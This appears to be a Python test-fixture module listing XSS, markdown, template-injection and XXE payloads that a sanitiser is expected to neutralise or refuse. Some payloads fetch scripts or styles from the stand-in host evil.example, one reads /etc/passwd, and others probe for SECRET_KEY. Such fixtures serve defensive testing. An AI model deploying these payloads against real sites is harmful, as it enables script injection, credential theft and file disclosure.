"""Texts that try to become more than text, for every field that anybody can fill in.

What they would do is ``alert``, or fetch something from ``evil.example``. Most fit into the shortest field, of 80
characters; the last ones are refused by length or by their characters, and have to come back as harmless.
"""

from __future__ import annotations

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0b>alert(1)</script >",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script type=module>import('//evil.example/x.js')</script>",
)
_HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<IMG SRC=x ONERROR=&#97;lert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<a href=# onclick=alert(1)>click</a>",
    "<b onmouseover=alert(1)//",
)
_FOREIGN = (
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
)
_FRAMES = (
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>x",
)
_LINKS = (
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java&Tab;script&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "<a href='&#x6A;avascript&#58;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='//evil.example' target=_blank ping=//evil.example>x</a>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'onload=alert(1)'",
    "![x](https://evil.example/x.png)",
    '![x](x"onerror=alert(1)//)',
    "![x](x 'y\" onerror=\"alert(1)')",
    "[x](https://e.example \"' onmouseover=alert(1) '\")",
    '[x](https://e.example/"onmouseover="alert(1))',
    "[a [b](javascript:alert(1))](https://e.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
)
_QUOTES = (
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "]]><script>alert(1)</script><![CDATA[",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
_TWISTED = (
    "{{7*7}} ${7*7} {%print(7*7)%} #{7*7} <%= 7*7 %>",
    "{{ config.SECRET_KEY }}{{ ''.__class__.__mro__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "x{: onclick=alert(1) style=color:red }",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<template><img src=x onerror=alert(1)></template>",
    "\x02wzxhzdk:0\x03 <b>klzzwxh:0001</b>",
    "::balance[x]<script>alert(1)</script>",
    "\u05d0\u200f<script>alert(1)</script>\u061c",
    "=HYPERLINK('https://evil.example','x')",
)
REFUSED = (
    "\u202e<script>alert(1)</script>\u2066",
    "<script>alert(1)</script>\0",
    "<img src=x onerror=alert(1)>" * 60,
    "[" * 700 + "x" + "](javascript:alert(1))" * 700,
    "<svg onload=alert(1)>\ufffe\uffff",
)
"""What no field takes."""
PAYLOADS = (*_SCRIPTS, *_HANDLERS, *_FOREIGN, *_FRAMES, *_LINKS, *_QUOTES, *_TWISTED)
"""What fields take, where it is not too long for them and has no character that cannot be kept."""
TEXTS = (
    '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    '!!! note" onclick="alert(1)\n    x',
    '??? tip "</summary><script>alert(1)</script>"\n    x',
    "> [!<script>alert(1)</script>]\n> x",
    "> [!note onclick=alert(1)] <img src=x onerror=alert(1)>\n> x",
    "- [ ] <img src=x onerror=alert(1)>\n- [x] [x](javascript:alert(1))",
    '<input type="checkbox" disabled onclick=alert(1)/>',
    "## x {#a onclick=alert(1) data-toc-label='<img src=x onerror=alert(1)>'}",
    "## <img src=x onerror=alert(1)> <path onload=alert(1)>",
    '## x" onclick="alert(1)',
    "![x](x.png){: onerror=alert(1) width='1\" onload=\"alert(1)' style='color:red'}",
    "[x](https://e.example){: href=javascript:alert(1) onclick=alert(1)}",
    '<a name="x" onclick="alert(1)" id="y\'><img src=x onerror=alert(1)>">x</a>',
    "https://e.example/<script>alert(1)</script>",
    'https://e.example/"onmouseover="alert(1)',
    "www.e.example/'><img src=x onerror=alert(1)>",
    "<tel:1' onclick='alert(1)>",
    "<mailto:a@e.example?x=<script>alert(1)</script>>",
    "{{<script>alert(1)</script>}} {% <img src=x onerror=alert(1)> %}",
    "<kbd><script>alert(1)</script> -- <img src=x onerror=alert(1)></kbd>",
    "<b onclick=alert(1) c d>x</b> <path x='<img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title><textarea><img src=x onerror=alert(1)>",
    "x\n: <script>alert(1)</script>\n\n    <img src=x onerror=alert(1)>",
    "x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
    "::note[<script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)>]",
    "* x\n{:toc onclick=alert(1)}\n\n[TOC]",
    "<main onclick=alert(1)>\n<form action=javascript:alert(1)><noscript><img src=x onerror=alert(1)></noscript>",
    "<picture><source srcset='x' onerror=alert(1)><img src=x onerror=alert(1)></picture>",
    "<!-- --!><img src=x onerror=alert(1)> --> <!-- > <script>alert(1)</script>",
)
"""What only a text of many lines has: boxes, tasks, anchors, attribute lists, notes, bare addresses, typed tags."""
ADDRESSES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)//https://e.example",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://e.example/" onmouseover="alert(1)',
    "https://e.example/><script>alert(1)</script>",
    "//evil.example/x",
    "https:javascript:alert(1)",
    "file:///etc/passwd",
)
"""Addresses of sources that are none."""
